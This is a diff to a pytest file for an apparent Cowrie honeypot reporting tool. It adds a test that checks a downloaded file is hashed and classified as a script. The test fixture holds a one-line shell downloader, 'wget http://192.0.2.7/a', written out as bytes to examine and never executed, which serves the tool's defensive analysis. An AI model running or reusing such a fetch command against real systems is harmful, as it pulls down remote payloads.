@@ -2,6 +2,8 @@
 
 import re
 from datetime import UTC, datetime, timedelta
+from hashlib import sha256
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -9,6 +11,7 @@ from sqlalchemy import text
 
 from cowrie_assets.clock import to_us
 from cowrie_assets.enrichment.answers import Answer, Kind, Said, Status
+from cowrie_assets.enrichment.downloads import examine_downloads
 from cowrie_assets.enrichment.places import Place, PlaceSource
 from cowrie_assets.reports.agreement import disagreements
 from cowrie_assets.reports.document import build_report
@@ -131,6 +134,20 @@ def test_what_is_known_stands_beside_what_the_report_lists(stored: Warehouse) ->
     ]
 
 
+def test_what_no_service_says_of_a_file_its_bytes_do(stored: Warehouse, tmp_path: Path) -> None:
+    content = b"#!/bin/sh\nwget http://192.0.2.7/a\n"
+    shasum = sha256(content).hexdigest()
+    (tmp_path / shasum).write_bytes(content)
+    Facts(stored).store([Session(MONDAY, files=(StoredFile(shasum),))])
+    before = report(stored)["enrichments"]
+    assert before["files"]["known"] == []
+    examine_downloads(stored, [tmp_path], now_us=us(5))
+    (known,) = report(stored)["enrichments"]["files"]["known"]
+    assert (known["shasum"], known["size"], known["label"]) == (shasum, len(content), None)
+    assert "script" in known["type"]
+    assert report(stored)["enrichments"]["verdicts_as_of"] == "2026-09-05T00:00:00.000000Z"
+
+
 def test_a_file_is_known_to_be_malicious_since_a_service_began_to_say_so_without_a_break(stored: Warehouse) -> None:
     judge(stored, of_file(HASH, False, at=2), now=us(6))
     judge(stored, of_file(HASH, True, label="again", at=3), now=us(7))
@@ -191,7 +208,8 @@ def test_the_keys_of_the_older_tools_are_filled(stored: Warehouse) -> None:
 
 
 @pytest.mark.parametrize(
-    "name", ["origins", "known_addresses", "known_files", "malicious_files", "file_services", "enrichments"]
+    "name",
+    ["origins", "known_addresses", "known_files", "malicious_files", "file_services", "enrichments", "examined_files"],
 )
 def test_what_a_report_lists_is_looked_up_in_what_is_known(warehouse: Warehouse, name: str) -> None:
     """Services may have said something of a million addresses: no report goes through all of that."""
